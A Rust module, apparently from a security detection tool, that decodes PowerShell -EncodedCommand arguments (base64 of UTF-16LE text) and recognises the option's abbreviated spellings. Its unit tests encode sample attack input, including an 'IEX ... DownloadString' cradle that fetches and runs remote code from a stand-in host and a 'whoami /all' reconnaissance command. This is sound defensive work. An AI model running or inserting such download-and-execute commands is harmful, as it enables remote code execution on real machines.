//! PowerShell `-EncodedCommand`: base64 of UTF-16LE text.

use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::Engine;

/// Standard alphabet, padding optional (attackers drop it).
const B64: GeneralPurpose = GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Arguments larger than this are not decoded (see the limit's docs).
use crate::limits::MAX_ENCODED_BYTES as MAX_ENCODED;

/// Shorter arguments are not decoded: too little to tell text from noise.
const MIN_ENCODED: usize = 4;

/// Is `token` (an option) PowerShell's `-EncodedCommand` in one of its
/// accepted spellings: `-e`, `-ec`, `-en` ... `-encodedcommand`, with `-` or
/// `/`, any case, possibly in double quotes?
fn is_encoded_option(token: &str) -> bool {
    let token = token.trim_matches('"');
    let Some(name) = token.strip_prefix(['-', '/']) else {
        return false;
    };
    const FULL: &str = "encodedcommand";
    match name.len() {
        1 => name.eq_ignore_ascii_case("e"),
        2..=14 => name.eq_ignore_ascii_case("ec") || name.eq_ignore_ascii_case(&FULL[..name.len()]),
        _ => false,
    }
}

/// An argument without the quotes around it.
fn unquote(token: &str) -> &str {
    token.trim_matches(['"', '\''])
}

/// Decodes every `-EncodedCommand` argument of a cleaned command line (case
/// kept, tokens separated by single spaces), joined by newlines.
pub(super) fn encoded_commands(cleaned: &str) -> Option<String> {
    let mut out: Option<String> = None;
    let mut after_option = false;
    for token in cleaned.split(' ') {
        if after_option {
            if let Some(text) = decode_text(unquote(token)) {
                match &mut out {
                    Some(o) => {
                        o.push('\n');
                        o.push_str(&text);
                    }
                    None => out = Some(text),
                }
            }
        }
        after_option = is_encoded_option(token);
    }
    out
}

/// Base64 of UTF-16LE text (or, failing that, of UTF-8 text), if it decodes
/// to mostly printable characters.
fn decode_text(arg: &str) -> Option<String> {
    if !(MIN_ENCODED..=MAX_ENCODED).contains(&arg.len()) {
        return None;
    }
    let bytes = B64.decode(arg).ok()?;
    if let Some(text) = utf16_text(&bytes) {
        return Some(text);
    }
    let text = String::from_utf8(bytes).ok()?;
    printable(&text).then_some(text)
}

/// The bytes as UTF-16LE, if that reads as text: mostly printable, and at
/// least half ASCII (PowerShell is; bytes that merely happen to pair up read
/// as scattered CJK and other scripts instead).
fn utf16_text(bytes: &[u8]) -> Option<String> {
    if bytes.is_empty() || bytes.len() % 2 != 0 {
        return None;
    }
    let units = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]));
    let text: String = char::decode_utf16(units)
        .map(|r| r.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect();
    let (total, ascii) = text.chars().fold((0usize, 0usize), |(t, a), c| {
        (t + 1, a + usize::from(c.is_ascii()))
    });
    (ascii * 2 >= total && printable(&text)).then_some(text)
}

/// At least 90% of the characters are neither control characters (other
/// than line breaks and tabs) nor replacement characters.
fn printable(text: &str) -> bool {
    let (total, good) = text.chars().fold((0usize, 0usize), |(t, g), c| {
        let ok = (!c.is_control() || matches!(c, '\n' | '\r' | '\t'))
            && c != char::REPLACEMENT_CHARACTER;
        (t + 1, g + usize::from(ok))
    });
    total > 0 && good * 10 >= total * 9
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16_b64(s: &str) -> String {
        let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn every_spelling_of_the_option_decodes() {
        let payload = utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
        for opt in [
            "-e",
            "-ec",
            "-en",
            "-enc",
            "-EncodedCommand",
            "/enc",
            "-ENCOD",
            "\"-enc\"",
            "-EC",
        ] {
            let line = format!("powershell -nop {opt} {payload}");
            let d = encoded_commands(&line).unwrap_or_default();
            assert!(d.contains("DownloadString"), "{opt}: {d:?}");
        }
        for opt in ["-ex", "-encodedcommandx", "-", "-c", "-ecx", "e", "-é"] {
            let line = format!("powershell {opt} {payload}");
            assert_eq!(encoded_commands(&line), None, "{opt}");
        }
        assert_eq!(encoded_commands("powershell -ex bypass -file a.ps1"), None);
        assert_eq!(encoded_commands("powershell -enc !!notbase64!!"), None);
    }

    #[test]
    fn text_is_told_from_noise() {
        // UTF-8 payloads decode as UTF-8, not as the CJK their bytes pair into.
        let utf8 = base64::engine::general_purpose::STANDARD.encode("whoami /all");
        assert_eq!(decode_text(&utf8).as_deref(), Some("whoami /all"));
        // Missing padding is tolerated.
        let unpadded = utf16_b64("whoami").trim_end_matches('=').to_string();
        assert_eq!(decode_text(&unpadded).as_deref(), Some("whoami"));
        // Ordinary words that happen to be base64 are not text.
        for word in ["password", "hostname", "AAAAAAAA", "bypass12"] {
            assert_eq!(decode_text(word), None, "{word}");
        }
        let binary =
            base64::engine::general_purpose::STANDARD.encode([0u8, 1, 2, 3, 4, 5, 0xff, 0xfe]);
        assert_eq!(decode_text(&binary), None);
    }
}
